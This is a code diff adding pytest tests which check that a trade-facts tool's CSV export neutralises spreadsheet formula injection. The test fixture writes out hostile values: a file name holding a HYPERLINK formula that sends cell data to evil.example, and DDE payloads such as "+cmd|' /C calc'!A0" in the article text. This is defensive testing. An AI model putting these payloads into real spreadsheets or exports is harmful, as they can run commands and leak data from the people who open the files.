@@ -54,3 +54,36 @@ def test_facts_csv_opens_as_a_spreadsheet_would(tmp_path: Path, capsysbinary: py
     assert by_year[("1993", "false")]["flags"].startswith("implausible: 1,400× below the trend")
     assert by_year[("2024", "false")]["source"] == "Viet Nam News, 2025-05-20"  # not a hashed file name
     assert "article_title" not in rows[0]
+
+
+def _hostile_article(folder: Path) -> None:
+    """An article whose file name, headline and fact sentence all begin with formulas."""
+    folder.mkdir()
+    name = '=HYPERLINK("http:||evil.example|?"&A2, "Click").txt'
+    (folder / name).write_text(
+        "+cmd|' /C calc'!A0 Chile Peru trade\n\n"
+        "@SUM(1+1)*cmd|' /C calc'!A0 Trade between Chile and Peru reached US$1.5 billion in 2020.\n",
+        encoding="utf-8",
+    )
+
+
+def _no_formulas(rows: list[dict[str, str]]) -> None:
+    for row in rows:
+        for column, value in row.items():
+            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(value)  # only a plain number may start so (a negative figure); this raises otherwise
+
+
+def test_the_facts_csv_of_a_hostile_article_carries_no_formula(
+    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    _hostile_article(tmp_path / "in")
+    db = f"sqlite:///{tmp_path / 'cli.sqlite'}"
+    assert main(["ingest", "--db", db, str(tmp_path / "in")]) == 0
+    capsysbinary.readouterr()
+    assert main(["facts", "--db", db, "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig"), newline="")))
+    assert [r["value_usd"] for r in rows] == ["1500000000"]
+    assert rows[0]["sentence"].startswith("'@SUM(1+1)*cmd|")
+    assert any(v.startswith("'=HYPERLINK(") or v.startswith("'+cmd|") for v in rows[0].values())
+    _no_formulas(rows)
